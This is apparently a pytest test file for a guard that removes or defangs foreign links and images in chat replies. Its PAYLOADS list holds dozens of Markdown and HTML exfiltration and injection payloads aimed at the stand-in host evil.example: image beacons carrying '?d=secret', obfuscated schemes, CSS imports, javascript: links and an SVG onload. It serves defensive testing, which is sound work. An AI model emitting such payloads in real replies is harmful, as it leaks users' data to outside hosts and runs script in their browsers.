"""Links and images of replies, judged as a Markdown renderer would read what is left of them."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token
from tests.answer.guarding import guard_of, passed, talk, ways

from chatwright.answer.guard_links import Hosts, hosts_of

GUARD = guard_of(
    ["Our page is https://library.example/start and www.friends.example."],
    links=["docs.example", "*.cdn.example"],
    personal=False,
)
ALLOWED = {"library.example", "www.friends.example", "docs.example"}
EVIL = "evil.example"

PAYLOADS = [
    "![x](https://evil.example/p.png?d=secret)",
    "![x](//evil.example/p.png)",
    "![x]( https://evil.example/p.png )",
    "![x](<https://evil.example/p.png>)",
    "![x](\nhttps://evil.example/p.png\n)",
    "![x](https://evil.example/a(b)c.png 'title (x)')",
    "![x](HTTPS://EVIL.EXAMPLE/p.png)",
    "![x](https:\\\\evil.example\\p.png)",
    "![x](https:/evil.example/p.png)",
    "![x](https&#58;//evil.example/p.png)",
    "![x](https&colon;//evil.example/p.png)",
    "![x](&#x68;ttps://evil.example/p.png)",
    "![x](https\\://evil.example/p.png)",
    "![x](https://library.example@evil.example/p.png)",
    "![x](https://library.example\\@evil.example/p.png)",
    "![x](https://evil.example\\@library.example/p.png)",
    "![x](https://library.example.evil.example/p.png)",
    "![x](https://evil.example:443/p.png)",
    "![x](https://ev%69l.example/p.png)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[r]: https://evil.example/p.png\n\n![x][r]",
    "[r]:\n  https://evil.example/p.png\n\n![r]",
    "[r]: <https://evil.example/p.png> 'title'\n\n[r]",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "[text](https://evil.example/x)",
    "[te](xt](https://evil.example/x)",
    "[text] (https://evil.example/x)",
    "<https://evil.example/x>",
    "<HTTPS://evil.example/x>",
    "<someone@evil.example>",
    "<img src='https://evil.example/p.png'>",
    "<img alt='the map' src=https://evil.example/p.png />",
    "<img alt='](https://evil.example/p)`www.evil.example' src=//evil.example>",
    "<img src=x srcset='https://evil.example/p.png 2x'>",
    "<IMG\nSRC=https://evil.example/p.png>",
    "<a href=https://evil.example>click</a>",
    "<svg><image href='https://evil.example/p.png'/></svg>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style='background:url(//evil.example/p.png)'>x</div>",
    "<iframe src=https://evil.example></iframe>",
    "see https://evil.example/x?d=secret",
    "see http://evil.example.",
    "see www.evil.example/x",
    "see evil.example/x?d=secret",
    "see (https://evil.example/x) and **https://evil.example/y**",
    "https://evil.example",
    "a https\\://evil.example/x b",
    "a www\\.evil.example/x b",
    "a https&#58;//evil.example/x b",
    "a https://library.example\\@evil.example/ b",
    "` https://evil.example/x",
    "`a\n# https://evil.example/x `",
    "``a` https://evil.example/x",
    "| a ` b | https://evil.example/x ` |\n|---|---|\n| c | d |",
    "```py\ncode\n```\nhttps://evil.example/x",
    "~~~\ncode\n~~~ \nhttps://evil.example/x",
    "> ```\n> code\n\nhttps://evil.example/x",
    "- ```\n  code\n\nhttps://evil.example/x",
    "```a`b\nhttps://evil.example/x",
    "\\`https://evil.example/x\\`",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](javascript:alert(document.domain))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "[x](mailto:someone@evil.example?body=secret)",
    "![x](https://evil.example/" + "a" * 3000 + ")",
    "<img src=https://evil.example/" + "a" * 3000 + ">",
]


def rendered(text: str) -> Iterator[str]:
    """Every address that a page would link to or load."""
    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    parser.validateLink = lambda url: True  # a browser's own care is not counted on
    yield from _tokens(parser.parse(text))


def _tokens(tokens: list[Token]) -> Iterator[str]:
    run = ""
    for token in tokens:
        for name in ("href", "src"):
            if (value := token.attrGet(name)) is not None:
                yield str(value)
        if token.type in ("html_inline", "html_block"):
            values = re.findall(r"=\s*(\"[^\"]*|'[^']*|[^\s>]+)", token.content)
            yield from (value.strip("\"'") for value in values if "evil" in value)
            if re.search(r"(?:url\(|@import )['\"]?(?:https?:)?//evil", token.content):
                yield "https://evil.example"
        if token.type in ("text", "text_special", "softbreak"):
            run += token.content if token.type != "softbreak" else "\n"
        else:
            yield from _literal(run)
            run = ""
        yield from _tokens(token.children or [])
    yield from _literal(run)


def _literal(text: str) -> Iterator[str]:
    """GitHub's autolinks, looked for in what is text after rendering, as many pages do."""
    yield from (m[0] for m in re.finditer(r"(?:https?://|www\.)[^\s<]+", text, re.IGNORECASE))


def foreign(text: str) -> list[str]:
    """Of those, the ones that do not stay with the owner's hosts; impossible names are asked of nobody."""
    return [url for url in rendered(text) if not all(map(owners, hosts_of(url)))]


def owners(host: str | None) -> bool:
    if host is None or host in ALLOWED or host == "":
        return host is not None
    return host.endswith(".cdn.example") or re.search(r"[<>()|^\[\]{}`]", host) is not None


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda text: text[:60])
def test_no_foreign_address_is_left(payload: str) -> None:
    for way in ways(f"Before. {payload} After.", 6):
        assert not foreign(passed(GUARD, way)), passed(GUARD, way)
    for way in ways(payload, 6):
        assert not foreign(passed(GUARD, way)), passed(GUARD, way)


def test_the_oracle_sees_what_it_should() -> None:
    seen = [payload for payload in PAYLOADS if foreign(payload)]
    assert len(seen) >= len(PAYLOADS) - 12


FINE = [
    'See [our page](https://library.example/start) and ![map](https://a.cdn.example/map.png "Map").',
    "See https://docs.example/a(b)?c=d#e, please.",
    "See www.friends.example/x.",
    "<https://library.example>",
    "[top](#top) and [here](/help) and ![logo](logo.png)",
    "[call](tel:+15550142)",
    "Use `curl https://evil.example` first.",
    "```sh\ncurl https://evil.example\n```\nThen wait.",
    "~~~\n<img src=https://evil.example>\n~~~",
    "Options: a/b, and/or; 9:30; 3 < 4 > 2; [x] done; note: yes; AT&T; e.g. this",
    "<b>bold</b> & <i>more</i>",
    "a\\*b \\[x\\] 1\\. first",
    "A list:\n- one\n- two [2]: see below\n\n[2]: notes",
    "x <y and z",
    "Price: 5 EUR. Ratio 1//2. Data: none.",
    "5 &lt; 6 &amp; 7 &euro;",
]


@pytest.mark.parametrize("text", FINE, ids=lambda text: text[:40])
def test_what_is_allowed_stays_as_it_is(text: str) -> None:
    for way in ways(text):
        assert passed(GUARD, way) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See [the form](https://evil.example/f) now.", "See [the form] now."),
        ("See https://evil.example/f.", "See evil[.]example/f."),
        ("![a map](https://evil.example/p.png)", "![a map]"),
        ("<img src=https://evil.example/p.png alt='a map'> here", " a map  here"),
        ("<https://evil.example>", "evil[.]example"),
    ],
)
def test_a_foreign_link_is_shown_as_text(text: str, shown: str) -> None:
    for way in ways(text):
        assert passed(GUARD, way) == shown


def test_an_address_that_the_user_gave_may_be_repeated() -> None:
    asked = talk("Please read https://news.example/a?b=1 for me")
    assert passed(GUARD, ["It is at https://news.example/a?b=1."], asked).endswith("/a?b=1.")
    assert "news[.]example" in passed(GUARD, ["At https://news.example/a?b=secret."], asked)
    mail = talk("I am anna@news.example")
    assert (
        passed(GUARD, ["I wrote to <anna@news.example>."], mail)
        == "I wrote to <anna@news.example>."
    )
    found = talk(("evidence", "see https://news.example/a?b=1"), "Hi")
    assert "news[.]example" in passed(GUARD, ["It is at https://news.example/a?b=1"], found)


@pytest.mark.parametrize("text", [*PAYLOADS, *FINE], ids=lambda text: text[:40])
def test_pieces_make_no_difference(text: str) -> None:
    if len(text) > 2_000:
        pytest.skip("longer than what is waited for")
    whole = passed(GUARD, [text])
    assert {passed(GUARD, way) for way in ways(text, 30)} == {whole}


def test_random_mixtures_let_nothing_through() -> None:
    draw = random.Random(7)
    parts = [p for p in (*PAYLOADS, *FINE) if len(p) < 200]
    glue = [
        "",
        " ",
        "\n",
        "\n\n",
        "`",
        "](",
        "[",
        "<",
        "**",
        "\\",
        "> ",
        "- ",
        "```\n",
        "&",
        "!",
        "(",
        ")",
        "|",
    ]
    for _ in range(2_000):
        text = "".join(
            draw.choice(glue) + draw.choice(parts)[: draw.choice((5, 20, 200))] + draw.choice(glue)
            for _ in range(draw.randint(1, 5))
        )
        shown = passed(GUARD, list(ways(text, 1))[draw.randrange(3)])
        assert not foreign(shown), (text, shown)


@pytest.mark.parametrize(
    ("url", "hosts"),
    [
        ("https://a.example/x", {"a.example"}),
        ("//a.example", {"a.example"}),
        ("a.example:8080/x", {"a.example"}),
        ("/x", {""}),
        ("#x", {""}),
        ("x.png", {""}),
        ("x.example", {"x.example"}),  # a file or a host: not told apart, so not trusted
        ("javascript:x", {None}),
        ("https://Ä.example/", {"xn--4ca.example"}),
        ("https://a.example\\@b.example", {"a.example", "b.example"}),
        ("mailto:x@a.example", {"a.example"}),
        ("https://", {None}),
    ],
)
def test_hosts(url: str, hosts: set[str | None]) -> None:
    assert hosts_of(url) == hosts


def test_names_of_hosts() -> None:
    hosts = Hosts(["A.example.", "*.b.example"])
    assert "a.example" in hosts and "x.b.example" in hosts
    assert not any(
        name in hosts for name in ("b.example", "xa.example", "x.a.example", "xb.example", "", None)
    )
    assert "anything.example" in Hosts(["*"]) and None not in Hosts(["*"])
